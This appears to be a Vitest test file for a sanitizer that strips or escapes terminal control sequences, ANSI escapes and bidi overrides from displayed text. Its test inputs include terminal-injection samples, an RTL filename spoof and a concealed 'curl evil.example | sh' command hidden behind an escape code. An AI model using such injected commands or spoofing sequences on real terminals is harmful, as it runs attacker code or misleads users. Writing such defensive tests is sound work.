import { describe, expect, it } from 'vitest';
import {
  escapeForTerminal,
  hasControlChars,
  jsonForTerminal,
  sanitizeForTerminal,
  sanitizeLines,
} from '../../common/terminal-text';

/** Anything a terminal could act on. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const ANY_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe('sanitizeForTerminal', () => {
  it.each([
    ['CSI erase line + cursor up', 'a\x1b[1A\x1b[2Kb', 'ab'],
    ['SGR colour with parameters', '\x1b[38;5;196mred\x1b[0m', 'red'],
    ['CSI with a private parameter', 'x\x1b[?25ly', 'xy'],
    ['OSC title ended by BEL', 'x\x1b]0;pwned\x07y', 'xy'],
    ['OSC 8 hyperlink ended by ST', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', 'click'],
    ['unterminated OSC swallows the rest, as a terminal would', 'ok\x1b]0;title', 'ok'],
    ['DCS', 'a\x1bPq#0;2;0;0;0\x1b\\b', 'ab'],
    ['two-byte ESC (reset)', 'a\x1bcb', 'ab'],
    ['a lone ESC at the end', 'ab\x1b', 'ab'],
    ['CR that rewrites the line', 'safe\rEVIL', 'safeEVIL'],
    ['LF that fakes a row', 'name\n* other', 'name* other'],
    ['NUL', 'a\x00b', 'ab'],
    ['BEL', 'ding\x07', 'ding'],
    ['backspace', 'abc\x08\x08X', 'abcX'],
    ['DEL', 'a\x7fb', 'ab'],
    ['C1 CSI (U+009B) with its parameters', 'a\u009b2Kb', 'ab'],
    ['C1 OSC (U+009D) to ST (U+009C)', 'a\u009d0;t\u009cb', 'ab'],
    ['other C1 controls (NEL, PAD, SSA)', 'a\u0085b\u0080c\u0086d', 'abcd'],
    ['C1 APC (U+009F) swallows its string', 'a\u009fhidden\u009cb', 'ab'],
    ['RIGHT-TO-LEFT OVERRIDE', 'invoice\u202Egnp.exe', 'invoicegnp.exe'],
    ['bidi isolates and marks', '\u2066a\u2069\u200eb\u200f\u061c', 'ab'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'abc'],
  ])('%s', (_what, input, expected) => {
    const out = sanitizeForTerminal(input);
    expect(out).toBe(expected);
    expect(out).not.toMatch(ANY_CONTROL);
  });

  it('leaves ordinary text, including non-Latin scripts and emoji, alone', () => {
    for (const s of ['Work key (prod)', 'Clé de travail', 'مفتاح', '鍵 🔑', 'C:\\Users\\me', '50% [beta]'])
      expect(sanitizeForTerminal(s)).toBe(s);
  });

  it('finds every control character the pattern does, alone or among ordinary text (its fast path)', () => {
    // Each code unit up to U+3000, as the only character and inside a name (all of them: the test below).
    for (let c = 0; c <= 0x3000; c++) {
      const ch = String.fromCharCode(c);
      for (const s of [ch, `Work ${ch} key`]) {
        const out = sanitizeForTerminal(s);
        expect(out, `U+${c.toString(16)}`).not.toMatch(ANY_CONTROL);
        expect(out === s, `U+${c.toString(16)}`).toBe(!ANY_CONTROL.test(s));
      }
    }
  });

  it('the fast path equals the two patterns for every UTF-16 code unit and every surrogate pair', () => {
    // main's sanitizeForTerminal, always through both patterns (SEQUENCE and CONTROL_ALL, as in the source)
    const SEQ =
      // eslint-disable-next-line no-control-regex -- finding control characters is the point
      /(?:\u001b\[|\u009b)[\u0030-\u003f]*[\u0020-\u002f]*[\u0040-\u007e]?|(?:\u001b[\]PX^_]|[\u0090\u0098\u009d-\u009f])[^\u0007\u001b\u009c]*(?:\u0007|\u001b\\|\u009c)?|\u001b[\u0020-\u002f]*[\u0030-\u007e]?/g;
    const ALL = new RegExp(ANY_CONTROL.source, 'g');
    const slow = (t: string): string => t.replace(SEQ, '').replace(ALL, '');
    const bad: string[] = [];
    for (let c = 0; c <= 0xffff; c++) {
      const ch = String.fromCharCode(c);
      for (const s of [ch, `Work ${ch} key`, `${ch}[31m`, `a${ch}`]) {
        if (sanitizeForTerminal(s) !== slow(s) || hasControlChars(s) !== ANY_CONTROL.test(s))
          bad.push(`U+${c.toString(16)}`);
      }
    }
    for (let hi = 0xd800; hi <= 0xdbff; hi++) {
      for (let lo = 0xdc00; lo <= 0xdfff; lo++) {
        const s = String.fromCharCode(hi, lo);
        if (sanitizeForTerminal(s) !== s) bad.push(`U+${hi.toString(16)} U+${lo.toString(16)}`);
      }
    }
    expect(bad).toEqual([]);
  });

  it('sanitizeLines keeps line breaks and cleans each line', () => {
    expect(sanitizeLines('one\x1b[2K\ntwo\rX\n\u202Ethree')).toBe('one\ntwoX\nthree');
  });
});

describe('escapeForTerminal', () => {
  it('shows every control character instead of removing it, so a command is seen in full', () => {
    expect(escapeForTerminal('aws-creds\x1b[8m; curl evil.example | sh\x1b[0m')).toBe(
      'aws-creds\\x1b[8m; curl evil.example | sh\\x1b[0m',
    );
    expect(escapeForTerminal('a\rb\nc\td\x00e\x07f\x7fg\u009bh\u202Ei')).toBe(
      'a\\rb\\nc\\td\\x00e\\x07f\\x7fg\\x9bh\\u202ei',
    );
    expect(escapeForTerminal("'/opt/get creds.sh' --role x")).toBe("'/opt/get creds.sh' --role x");
    expect(escapeForTerminal('a\x1b]0;t\x07b')).not.toMatch(ANY_CONTROL);
  });
});

describe('hasControlChars', () => {
  it('is true for each class and false for ordinary names', () => {
    for (const s of ['a\x1b', 'a\n', 'a\r', 'a\x00', 'a\x07', 'a\x7f', 'a\u0085', 'a\u202E', 'a\u2066', 'a\u2028'])
      expect(hasControlChars(s), JSON.stringify(s)).toBe(true);
    for (const s of ['Work key', 'Bedrock (prod) — eu', '鍵']) expect(hasControlChars(s)).toBe(false);
  });
});

describe('jsonForTerminal', () => {
  it('escapes what JSON.stringify leaves raw; JSON.parse gives back the same data', () => {
    const value = { name: 'a\x1b[2Kb\u009b\u202E\x7f\u2028', n: 1 };
    const text = jsonForTerminal(value);
    expect(text.replace(/\n/g, '')).not.toMatch(ANY_CONTROL);
    expect(text).toContain('\\u202e');
    expect(JSON.parse(text)).toEqual(value);
    expect(text.split('\n')).toHaveLength(4); // still pretty-printed
  });
});
